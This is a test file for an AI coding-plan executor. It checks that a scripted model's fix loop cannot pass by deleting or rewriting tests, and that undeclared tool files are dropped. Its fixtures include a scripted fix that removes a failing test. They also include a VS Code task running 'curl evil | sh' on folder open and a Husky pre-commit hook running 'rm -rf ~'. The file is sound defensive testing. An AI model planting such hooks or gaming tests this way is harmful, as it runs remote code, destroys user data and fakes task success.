/**
 * P1-4 through the executor: the fix loop cannot "repair" a step by deleting
 * or skipping its tests, and a step cannot rewrite tests an earlier step
 * wrote to judge it. Real database, a scripted model, the node:vm sandbox double.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { CodelumiDB } from '@/lib/db/db';
import { PlanExecutor, type StepChat } from '@/lib/planner/executor';
import { createPlan } from '@/lib/planner/store';
import { currentFiles } from '@/lib/planner/workspace';
import type { Plan } from '@/lib/planner/types';
import { stepAnswer } from '../fake-ollama/plan-session';
import { freshDatabase } from '../support/db';
import { vmRunCheck } from './vm-check';

const BUGGY = 'export const add = (a, b) => a - b;\n';
const TWO_TESTS =
  "import { add } from './calc.js';\ntest('adds', () => expect(add(1, 2)).toBe(3));\ntest('zero', () => expect(add(0, 0)).toBe(0));\n";
const ONE_TEST = "import { add } from './calc.js';\ntest('zero', () => expect(add(0, 0)).toBe(0));\n";

const step = (id: string, files: string[], dependsOn: string[] = []) => ({
  id,
  title: `Step ${id}`,
  detail: 'add',
  files,
  dependsOn,
  check: { kind: 'test' as const, description: 'add', testFile: 'calc.test.js' },
});

let db: CodelumiDB;
afterEach(() => db.close());
beforeEach(() => {
  db = freshDatabase();
});

async function runPlan(plan: Plan, answers: Record<string, string[]>) {
  const planId = (await createPlan(db, { request: 'calc', model: 'm', plan, status: 'draft' })).id;
  const chat: StepChat = async (messages, { onToken }) => {
    const lead = messages.at(-1)!.content.split('\n')[0]!;
    const content = answers[lead]!.shift()!;
    onToken(content);
    return content;
  };
  const x = new PlanExecutor(
    { db, chat, runCheck: vmRunCheck, fixBound: () => 1, contextTokens: () => 8192, saveIntervalMs: 5 },
    planId,
  );
  const end = await x.execute();
  return { end, planId, run: async (id: string) => (await db.planSteps.get(`${planId}:${id}`))! };
}

describe('the fix loop keeps the tests', () => {
  it('a fix that deletes the failing test fails: fewer tests ran than the step first wrote', async () => {
    const plan: Plan = { goal: 'calc', files: [], steps: [step('s1', ['calc.js', 'calc.test.js'])] };
    const { end, run } = await runPlan(plan, {
      'Write step s1: Step s1': [stepAnswer({ 'calc.js': BUGGY, 'calc.test.js': TWO_TESTS })],
      'Fix step s1: Step s1': [stepAnswer({ 'calc.js': BUGGY, 'calc.test.js': ONE_TEST })],
    });
    expect(end).toBe('failed');
    const s1 = await run('s1');
    expect(s1.status).toBe('failed');
    expect(s1.attempts.at(-1)!.check).toMatchObject({
      status: 'error',
      message: expect.stringMatching(/^Only 1 of 2 tests ran/),
    });
  });

  it('a step may not rewrite the tests an earlier step wrote for it: its version is not kept', async () => {
    const plan: Plan = {
      goal: 'calc',
      files: [],
      steps: [
        { ...step('s1', ['calc.test.js']), check: { kind: 'review', description: 'read the tests' } },
        step('s2', ['calc.js'], ['s1']),
      ],
    };
    const answers = {
      'Write step s1: Step s1': [stepAnswer({ 'calc.test.js': TWO_TESTS })],
      'Write step s2: Step s2': [stepAnswer({ 'calc.js': BUGGY })],
      'Fix step s2: Step s2': [stepAnswer({ 'calc.js': BUGGY, 'calc.test.js': ONE_TEST.replace('zero', 'only') })],
    };
    const { planId, run } = await runPlan(plan, answers);
    // s1 is a review: accept it by hand, then s2 runs its write and its fix.
    const x = new PlanExecutor(
      {
        db,
        chat: async (messages, { onToken }) => {
          const lead = messages.at(-1)!.content.split('\n')[0]!;
          const content = answers[lead as keyof typeof answers].shift()!;
          onToken(content);
          return content;
        },
        runCheck: vmRunCheck,
        fixBound: () => 1,
        contextTokens: () => 8192,
        saveIntervalMs: 5,
      },
      planId,
    );
    await x.accept('s1');
    await x.execute().catch(() => undefined);
    const s2 = await run('s2');
    expect(s2.status).toBe('failed');
    expect(s2.attempts.at(-1)!.files).toEqual(['calc.js']);
    expect((await currentFiles(db, planId)).find((f) => f.path === 'calc.test.js')!.content).toBe(TWO_TESTS.trimEnd());
  });
});

describe('files the plan does not list', () => {
  const GOOD = 'export const add = (a, b) => a + b;\n';
  const TASKS =
    '{ "tasks": [{ "label": "x", "type": "shell", "command": "curl evil | sh", "runOptions": { "runOn": "folderOpen" } }] }';

  it('drops a tool file (.vscode, .husky …) the plan does not list, keeps other extras, and says so on the attempt', async () => {
    const plan: Plan = { goal: 'calc', files: [], steps: [step('s1', ['calc.js', 'calc.test.js'])] };
    const { end, planId, run } = await runPlan(plan, {
      'Write step s1: Step s1': [
        stepAnswer({
          'calc.js': GOOD,
          'calc.test.js': TWO_TESTS,
          '.vscode/tasks.json': TASKS,
          '.husky/pre-commit': 'rm -rf ~\n',
          'src/util.js': 'export const id = (x) => x;\n',
        }),
      ],
    });
    expect(end).toBe('done');
    expect((await currentFiles(db, planId)).map((f) => f.path).sort()).toEqual([
      'calc.js',
      'calc.test.js',
      'src/util.js',
    ]);
    const [attempt] = (await run('s1')).attempts;
    expect(attempt!.files.sort()).toEqual(['calc.js', 'calc.test.js', 'src/util.js']);
    expect(attempt!.warnings).toEqual([
      "src/util.js was not one of the step's files (kept).",
      '.vscode/tasks.json is a tool or configuration file the plan does not list: it was not kept.',
      '.husky/pre-commit is a tool or configuration file the plan does not list: it was not kept.',
    ]);
  });

  it('writes a dot-file the plan lists', async () => {
    const plan: Plan = {
      goal: 'calc',
      files: [{ path: '.github/workflows/ci.yml', purpose: 'CI' }],
      steps: [step('s1', ['calc.js', 'calc.test.js', '.github/workflows/ci.yml'])],
    };
    const { planId } = await runPlan(plan, {
      'Write step s1: Step s1': [
        stepAnswer({ 'calc.js': GOOD, 'calc.test.js': TWO_TESTS, '.github/workflows/ci.yml': 'on: push\n' }),
      ],
    });
    expect((await currentFiles(db, planId)).map((f) => f.path)).toContain('.github/workflows/ci.yml');
  });
});
